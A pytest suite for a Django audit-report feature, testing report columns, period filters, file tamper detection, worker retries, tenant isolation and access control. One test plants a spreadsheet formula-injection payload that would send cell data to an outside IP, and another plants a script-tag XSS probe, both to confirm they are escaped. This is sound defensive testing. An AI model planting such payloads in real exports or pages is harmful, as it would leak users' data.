"""What the reports say, how it is kept and proven, and who may have it."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.db import ProgrammingError
from django.urls import reverse

from audit.models import AuditLog
from audit.services import Event, record_events
from impersonation.models import ImpersonationSession
from opsconsole.core import clock, context
from opsconsole.core.errors import Invalid
from reports import files, formats, making, selectors, services
from reports.definitions import Asked, all_reports, report_named, settle, span
from reports.models import ReportRun
from tenants import services as tenant_services
from tenants.models import Membership, TenantRole
from tenants.scope import platform_scope, tenant_scope
from tenants.tokens import create_token

pytestmark = pytest.mark.django_db

RUNBOOK = [
    "session_id", "actor_email", "actor_name", "impersonated_email", "impersonated_name", "tenant_name", "started_at",
    "ended_at", "duration_minutes", "ip_address", "user_agent", "write_operations_count",
]  # fmt: skip


def made(name: str, tenant: Any, *, kind: str = "csv", by: Any = None, asked: Asked | None = None) -> ReportRun:
    """A report through the worker's door."""
    run = services.request_report(
        report=report_named(name),
        tenant=tenant,
        asked=asked or settle(as_of=clock.now()),
        kind=kind,
        requested_by=by,
    )
    done = making.make(run.pk)
    assert done is not None and done.status == "COMPLETED", done and done.error
    return done


def asked_for(name: str, tenant: Any = None) -> ReportRun:
    """A report that waits for a worker."""
    return services.request_report(
        report=report_named(name), tenant=tenant, asked=settle(as_of=clock.now()), kind="csv", requested_by=None
    )


def lines(run: ReportRun) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(services.file_of(run).read_text())))


def a_session(cast: Any, tenant: Any, target: Any, **fields: Any) -> ImpersonationSession:
    began = clock.now() - timedelta(hours=3)
    with platform_scope():
        return ImpersonationSession.objects.create(
            actor_user=cast.support,
            impersonated_user=target,
            impersonated_tenant=tenant,
            reason=fields.pop("reason", "the invoices hang"),
            ticket="SUP-7",
            user_agent="Firefox",
            ip_address="192.0.2.9",
            started_at=began,
            last_seen_at=began,
            expires_at=began + timedelta(minutes=60),
            ended_at=began + timedelta(minutes=30),
            ended_by=cast.support,
            end_reason="done",
            **fields,
        )


def some_events(tenant: Any, count: int, action: str = "REFUSED", **details: Any) -> None:
    with platform_scope():
        record_events(
            [Event(action, "requests", tenant_id=tenant.pk, details={"n": n, **details}) for n in range(count)]
        )


# -- what they say ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "jsonl", "xlsx", "html"])
@pytest.mark.parametrize("name", [report.name for report in all_reports()])
def test_each_report_is_made_in_each_format_twice_alike_and_can_be_proven(cast: Any, name: str, kind: str) -> None:
    a_session(cast, cast.tenant, cast.operator)
    some_events(cast.tenant, 2)
    asked = settle(as_of=clock.now())
    for tenant in (cast.tenant, None):
        first, second = (made(name, tenant, kind=kind, asked=asked) for _ in range(2))
        assert first.rows is not None and first.rows > 0
        assert services.file_of(first).read_bytes() == services.file_of(second).read_bytes()
        assert services.verify(first).holds


def test_sessions_begin_with_the_runbooks_columns(cast: Any) -> None:
    session = a_session(cast, cast.tenant, cast.operator)
    with context.acting(actor_id=cast.support.pk, acting_as_id=cast.operator.pk, session_id=session.pk, source="web"):
        some_events(cast.tenant, 3, "READ")
        some_events(cast.tenant, 1, "REFUSED")
    run = made("impersonation-sessions", None)
    (row,) = lines(run)
    assert list(row)[: len(RUNBOOK)] == RUNBOOK
    assert (row["actor_email"], row["impersonated_email"]) == ("support@example.org", "operator@example.org")
    assert (row["tenant_name"], row["ip_address"], float(row["duration_minutes"])) == ("Acme Robotics", "192.0.2.9", 30)
    assert (row["reads"], row["refusals"], row["ticket"], row["mode"]) == ("3", "1", "SUP-7", "READ_ONLY")
    (total,) = lines(made("actor-summary", None))
    assert list(total)[:5] == ["actor", "total_sessions", "tenants_accessed", "total_hours", "last_session"]
    assert (total["actor"], total["total_sessions"], float(total["total_hours"])) == ("support@example.org", "1", 0.5)


def test_the_access_review_knows_who_gave_what(cast: Any) -> None:
    with context.acting(actor_id=cast.owner.pk, source="web"):
        tenant_services.set_membership(tenant=cast.tenant, user=cast.viewer, role=TenantRole.APPROVER, by=cast.owner)
    create_token(user=cast.operator, name="deploy", tenant=cast.tenant, created_by=cast.owner, permissions=["operate"])
    rows = lines(made("access-review", cast.tenant))
    member = next(r for r in rows if r["person_email"] == "viewer@example.org")
    assert (member["role"], member["granted_by"], member["granted_how"]) == ("approver", "owner@example.org", "web")
    assert "approve" in member["grants"] and "operate" not in member["grants"]
    token = next(r for r in rows if r["access"] == "API token")
    assert (token["person_email"], token["grants"], token["tenant"]) == ("operator@example.org", "operate", "acme")
    assert {r["tenant"] for r in rows} == {"acme"}
    everywhere = lines(made("access-review", None))
    assert {"platform admin", "platform role"} <= {r["access"] for r in everywhere}


def test_privileged_changes_name_whom_they_are_about(cast: Any) -> None:
    with context.acting(actor_id=cast.owner.pk, source="web"):
        tenant_services.set_membership(tenant=cast.tenant, user=cast.viewer, role=TenantRole.OPERATOR, by=cast.owner)
    changes = lines(made("privileged-changes", cast.tenant))
    role = next(r for r in changes if r["action"] == "UPDATE" and r["object_kind"] == "memberships")
    assert (role["actor_email"], role["about"]) == ("owner@example.org", "viewer@example.org")
    assert json.loads(role["before"])["role"] == "viewer" and json.loads(role["after"])["role"] == "operator"
    assert any(r["object_kind"] == "tenant_grants" and r["object"] == "operate" for r in changes)


def test_a_period_a_person_and_a_tenant_narrow(cast: Any) -> None:
    some_events(cast.tenant, 2)
    some_events(cast.other_tenant, 1)
    with context.acting(actor_id=cast.owner.pk, source="web"):
        some_events(cast.tenant, 1)
    now = clock.now()
    counts = {
        "all": settle(as_of=now),
        "tenant": settle(as_of=now, tenant="acme"),
        "person": settle(as_of=now, person="Owner@example.org"),
        "before": settle(as_of=now, until=(now - timedelta(days=1)).isoformat()),
    }
    rows = {name: made("refused-attempts", None, asked=asked).rows for name, asked in counts.items()}
    assert rows == {"all": 4, "tenant": 3, "person": 1, "before": 0}


def test_nothing_later_than_asked_for_is_in_it(cast: Any) -> None:
    some_events(cast.tenant, 1)
    asked = settle(as_of=clock.now())
    some_events(cast.tenant, 5)
    assert made("refused-attempts", None, asked=asked).rows == 1


@pytest.mark.parametrize(
    ("given", "field"),
    [
        ({"since": "yesterday"}, "since"),
        ({"until": "9999-12-30"}, None),
        ({"until": "9999-12-31"}, "until"),
        ({"since": "2026-02-30"}, "since"),
        ({"period": "decade"}, "period"),
        ({"since": "2026-05-02", "until": "2026-05-01"}, "since"),
    ],
)
def test_periods_that_cannot_be_read_name_their_field(given: dict[str, str], field: str | None) -> None:
    now = datetime(2026, 6, 1, 12, tzinfo=UTC)
    if field is None:
        assert settle(as_of=now, **given).until == now
        return
    with pytest.raises(Invalid) as refused:
        settle(as_of=now, **given)
    assert field in refused.value.details


def test_relative_periods_are_whole() -> None:
    wednesday = datetime(2026, 3, 4, 15, 30, tzinfo=UTC)
    days = {p: tuple(f"{m:%m-%d %H:%M}" for m in span(p, wednesday)) for p in ("day", "week", "month")}
    assert days == {
        "day": ("03-03 00:00", "03-04 00:00"),
        "week": ("02-23 00:00", "03-02 00:00"),
        "month": ("02-01 00:00", "03-01 00:00"),
    }


# -- the files --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_cell_is_a_formula(cast: Any, start: str) -> None:
    text = f'{start}HYPERLINK("http://192.0.2.1/?"&A1)'
    a_session(cast, cast.tenant, cast.operator, reason=text)
    (row,) = csv.DictReader(
        io.StringIO(services.file_of(made("impersonation-sessions", None)).read_bytes().decode(), newline="")
    )
    assert row["reason"] == "'" + text
    with zipfile.ZipFile(services.file_of(made("impersonation-sessions", None, kind="xlsx"))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not any("hyperlink" in name.lower() or ("rels" in name and "sheet" in name) for name in book.namelist())
    assert "<f>" not in sheet and "HYPERLINK" in sheet


def test_a_page_to_print_runs_no_markup(cast: Any) -> None:
    a_session(cast, cast.tenant, cast.operator, reason="<script>alert(1)</script>")
    page = services.file_of(made("impersonation-sessions", None, kind="html")).read_text()
    assert "<script" not in page and "&lt;script&gt;" in page


def test_rows_are_streamed(cast: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """No more than one chunk is fetched before its rows are asked for."""
    monkeypatch.setattr(formats, "CHUNK_ROWS", 10)
    some_events(cast.tenant, 35)
    fetched: list[int] = []
    with tenant_scope(cast.tenant.pk, read_only=True):
        from django.db import connection

        real = connection.chunked_cursor

        def watched() -> Any:
            cursor = real()
            fetch = cursor.fetchmany
            # The wrapper hands attributes through, so that what is set here is what is called.
            cursor.fetchmany = lambda count: fetched.append(count) or fetch(count)
            return cursor

        monkeypatch.setattr(connection, "chunked_cursor", watched)
        asked = settle(as_of=clock.now())
        rows = formats.rows_of(report_named("refused-attempts"), formats.query_values(asked, platform=False))
        next(rows)
        assert fetched == [10]
        assert len(list(rows)) == 34
    assert fetched == [10] * 5


def test_a_changed_file_is_found(cast: Any) -> None:
    some_events(cast.tenant, 1)
    run = made("refused-attempts", cast.tenant)
    path = services.file_of(run)
    assert path.stat().st_mode & 0o077 == 0
    path.write_bytes(path.read_bytes().replace(b"REFUSED", b"ALLOWED"))
    assert not services.verify(run).holds
    # Whoever can change the row as well still has the trail against them.
    forged = {**run.manifest, "sha256": files.digest_of(path)}
    with tenant_scope(cast.tenant.pk):
        ReportRun.objects.filter(pk=run.pk).update(manifest=forged, sha256=forged["sha256"])
        run.refresh_from_db()
    verdict = services.verify(run)
    assert verdict.found == verdict.manifest and not verdict.holds


def test_the_manifest_and_the_trail_say_what_was_made(cast: Any) -> None:
    some_events(cast.tenant, 3)
    run = made("refused-attempts", cast.tenant, by=cast.owner)
    manifest = run.manifest
    assert (manifest["rows"], manifest["tenant"]["slug"], manifest["made_by"]["email"]) == (
        3,
        "acme",
        "owner@example.org",
    )
    assert manifest["bytes"] == services.file_of(run).stat().st_size
    with tenant_scope(cast.tenant.pk):
        entry = AuditLog.objects.get(action="REPORT_EXPORTED", resource_id=run.pk)
    assert entry.details["sha256"] == manifest["sha256"] and entry.details["parameters"] == manifest["parameters"]


def test_files_go_after_a_while_and_manifests_stay(cast: Any, settings: Any) -> None:
    run = made("access-review", cast.tenant)
    path = services.file_of(run)
    settings.REPORT_FILES_DAYS = -1
    assert services.remove_old_files() == 1
    assert not path.exists()
    again = services.get_run(tenant_id=cast.tenant.pk, run_id=run.pk)
    assert again.manifest["sha256"] == run.sha256 and not again.file_name


# -- durability -------------------------------------------------------------------------------------------------------


def test_a_run_is_made_by_one_worker(cast: Any) -> None:
    run = asked_for("access-review")
    assert making.claim(run.pk) is not None
    assert making.claim(run.pk) is None
    assert making.make(run.pk) is None


def test_a_lost_worker_is_replaced_and_leaves_nothing(cast: Any) -> None:
    run = asked_for("access-review")
    late = making.claim(run.pk)
    with platform_scope():
        ReportRun.objects.filter(pk=run.pk).update(lease_expires_at=clock.now() - timedelta(seconds=1))
    done = making.make(run.pk)
    assert done is not None and done.status == "COMPLETED" and done.fence == 2
    making._carry_out(late, making._Heart(late))
    after = services.get_run(tenant_id=None, run_id=run.pk)
    assert (after.file_name, after.sha256) == (done.file_name, done.sha256)
    assert [p.name for p in files.folder_of(None).iterdir()] == [done.file_name]


def test_a_failure_is_tried_again_and_then_seen(cast: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    run = asked_for("access-review")

    def breaks(*args: Any, **kwargs: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(formats, "write", breaks)
    seen = []
    for _ in range(making.MAX_ATTEMPTS):
        seen.append(making.make(run.pk).status)  # type: ignore[union-attr]
        with platform_scope():
            ReportRun.objects.filter(pk=run.pk).update(run_after=None)
    assert seen == ["RETRY_PENDING"] * (making.MAX_ATTEMPTS - 1) + ["FAILED"]
    monkeypatch.undo()
    services.try_again(run=run)
    assert making.make(run.pk).status == "COMPLETED"  # type: ignore[union-attr]


# -- doors ------------------------------------------------------------------------------------------------------------


def test_another_tenants_rows_never(cast: Any) -> None:
    """Row-level security decides, whatever the parameters say."""
    a_session(cast, cast.other_tenant, cast.stranger)
    some_events(cast.other_tenant, 4)
    asked = settle(as_of=clock.now(), tenant="umbrella")
    for report in all_reports():
        content = services.file_of(made(report.name, cast.tenant, asked=asked)).read_text()
        assert "umbrella" not in content.lower() and "stranger@" not in content, report.name
    assert selectors.preview(report_named("refused-attempts"), asked, tenant_id=cast.tenant.pk, slug="acme") == []


@pytest.mark.parametrize(
    ("who", "own", "platform"),
    [
        ("owner", 200, 403),
        ("approver", 200, 403),
        ("operator", 403, 403),
        ("viewer", 403, 403),
        ("stranger", 404, 403),
        ("support", 404, 403),
        ("officer", 200, 200),
        ("admin", 200, 200),
    ],
)
def test_who_sees_the_pages(cast: Any, client: Any, who: str, own: int, platform: int) -> None:
    tenants, everywhere = made("access-review", cast.tenant), made("access-review", None)
    client.force_login(getattr(cast, who))
    slug = {"tenant_slug": "acme"}
    for name, extra in (
        ("reports", {}),
        ("report", {"name": "access-review"}),
        ("report", {"name": "impersonation-sessions"}),
        ("report-run", {"pk": tenants.pk}),
        ("report-manifest", {"pk": tenants.pk}),
        ("report-download", {"pk": tenants.pk}),
    ):
        assert client.get(reverse(name, kwargs={**slug, **extra})).status_code == own, name
        there = {**extra, "pk": everywhere.pk} if "pk" in extra else extra
        assert client.get(reverse(f"platform-{name}", kwargs=there)).status_code == platform, name


def test_a_run_is_reached_in_its_own_place_only(cast: Any, client: Any) -> None:
    mine, theirs, everywhere = (made("access-review", t) for t in (cast.tenant, cast.other_tenant, None))
    client.force_login(cast.owner)
    answers = [
        client.get(reverse("report-download", kwargs={"tenant_slug": "acme", "pk": pk}))
        for pk in (theirs.pk, everywhere.pk, cast.tenant.pk)
    ]
    assert [a.status_code for a in answers] == [404] * 3
    assert answers[0].content == answers[2].content
    client.force_login(cast.officer)
    assert client.get(reverse("platform-report-run", kwargs={"pk": mine.pk})).status_code == 404


def test_made_by_hand_from_the_page(cast: Any, client: Any) -> None:
    some_events(cast.tenant, 25)
    client.force_login(cast.owner)
    address = reverse("report", kwargs={"tenant_slug": "acme", "name": "refused-attempts"})
    shown = client.get(address, {"period": "90-days"})
    assert shown.status_code == 200 and b"The first 20 rows" in shown.content
    # What is made is what is shown; the token of the form stays out of addresses.
    assert b'<input type="hidden" name="period" value="90-days">' in shown.content
    asking = shown.content.split(b'<form method="get" class="form')[1].split(b"</form>")[0]
    assert b"csrfmiddlewaretoken" not in asking
    wrong = client.post(address, {"since": "2026-05-02", "until": "2026-05-01"})
    assert wrong.status_code == 422 and b"ends before it begins" in wrong.content
    page = client.post(address, {"period": "90-days", "format": "jsonl"})
    assert page.status_code == 302
    with tenant_scope(cast.tenant.pk):
        run = ReportRun.objects.get()
    assert b"Waits for a worker" in client.get(page.url).content
    services.carry(run.pk)
    assert b"25" in client.get(page.url).content
    got = client.get(reverse("report-download", kwargs={"tenant_slug": "acme", "pk": run.pk}))
    body = b"".join(got.streaming_content)
    assert len(body.splitlines()) == 25 and all(json.loads(line)["action"] == "REFUSED" for line in body.splitlines())
    verify = reverse("report-act", kwargs={"tenant_slug": "acme", "pk": run.pk, "what": "verify"})
    assert b"The file is what was made" in client.post(verify, follow=True).content
    with tenant_scope(cast.tenant.pk):
        took = AuditLog.objects.filter(resource_id=run.pk).values_list("action", "actor_user_id")
        assert {("REPORT_EXPORTED", cast.owner.pk), ("REPORT_DOWNLOADED", cast.owner.pk)} <= set(took)


@pytest.mark.parametrize("count", [2, 30])
def test_the_list_costs_the_same_however_long(
    cast: Any, client: Any, count: int, django_assert_max_num_queries: Any
) -> None:
    for _ in range(count):
        asked_for("access-review", cast.tenant)
    client.force_login(cast.owner)
    with django_assert_max_num_queries(23):
        assert client.get(reverse("reports", kwargs={"tenant_slug": "acme"})).status_code == 200


def test_over_rest(cast: Any, client: Any) -> None:
    some_events(cast.tenant, 2)

    def headers(user: Any, **fields: Any) -> dict[str, str]:
        return {"Authorization": f"Bearer {create_token(user=user, name='t', **fields)[1]}"}

    officer, viewer, owner = headers(cast.officer), headers(cast.viewer), headers(cast.owner, tenant=cast.tenant)
    names = client.get("/api/v1/reports", headers=viewer).json()["reports"]
    assert {r["name"] for r in names} == {r.name for r in all_reports()}
    ask = {"data": {"tenant": "acme"}, "content_type": "application/json"}
    assert client.post("/api/v1/reports/refused-attempts", headers=viewer, **ask).status_code == 403
    assert client.post("/api/v1/reports/nonsense", headers=officer, **ask).status_code == 404
    begun = client.post("/api/v1/reports/refused-attempts", headers=owner, data={}, content_type="application/json")
    assert begun.status_code == 202
    run_id = begun.json()["run"]["id"]
    assert client.get(f"/api/v1/reports/runs/{run_id}/download", headers=owner).status_code == 409
    services.carry(run_id)
    told = client.get(f"/api/v1/reports/runs/{run_id}", headers=owner).json()["run"]
    assert (told["status"], told["rows"]) == ("COMPLETED", 2)
    assert client.post(f"/api/v1/reports/runs/{run_id}/verify", headers=owner).json()["holds"] is True
    got = client.get(f"/api/v1/reports/runs/{run_id}/download", headers=officer)
    assert got.status_code == 200 and got["X-Content-SHA256"] == told["sha256"]
    everywhere = made("access-review", None)
    for path in ("", "/download"):
        mine = client.get(f"/api/v1/reports/runs/{everywhere.pk}{path}", headers=headers(cast.owner))
        missing = client.get(f"/api/v1/reports/runs/{cast.tenant.pk}{path}", headers=headers(cast.owner))
        assert (mine.status_code, mine.json()) == (404, missing.json())


def test_the_command_writes_the_same_bytes(cast: Any, tmp_path: Path) -> None:
    some_events(cast.tenant, 3)
    moment = clock.now()

    written = []
    for _ in range(2):
        out = io.TextIOWrapper(raw := io.BytesIO())
        manifest = tmp_path / "manifest.json"
        call_command(
            "report", "refused-attempts", tenant="acme", as_of=moment.isoformat(), manifest=manifest, stdout=out
        )
        written.append((raw.getvalue(), json.loads(manifest.read_text())["sha256"]))
    assert written[0] == written[1] and written[0][0].count(b"REFUSED") == 3
    with platform_scope():
        assert AuditLog.objects.filter(action="REPORT_EXPORTED", source="shell").count() == 2


# ---- the role


@pytest.mark.parametrize("where", ["tenant", "platform"])
@pytest.mark.parametrize("how", ["file", "preview"])
def test_a_report_cannot_write(cast: Any, monkeypatch: pytest.MonkeyPatch, where: str, how: str) -> None:
    """Its role can only SELECT, whatever a definition may come to hold."""
    tenant = cast.tenant if where == "tenant" else None
    report, asked = report_named("access-review"), settle(as_of=clock.now())

    def writes(*_args: Any, **_kwargs: Any) -> Any:
        Membership.objects.update(role=TenantRole.OWNER)

    monkeypatch.setattr(formats, "write" if how == "file" else "rows_of", writes)
    with pytest.raises(ProgrammingError, match="permission denied"):
        if how == "file":
            services.write_now(report=report, tenant=tenant, asked=asked, kind="csv", out=io.BytesIO())
        else:
            selectors.preview(report, asked, tenant_id=tenant.pk if tenant else None)
    with platform_scope():
        assert Membership.objects.filter(role=TenantRole.OWNER).count() == 2
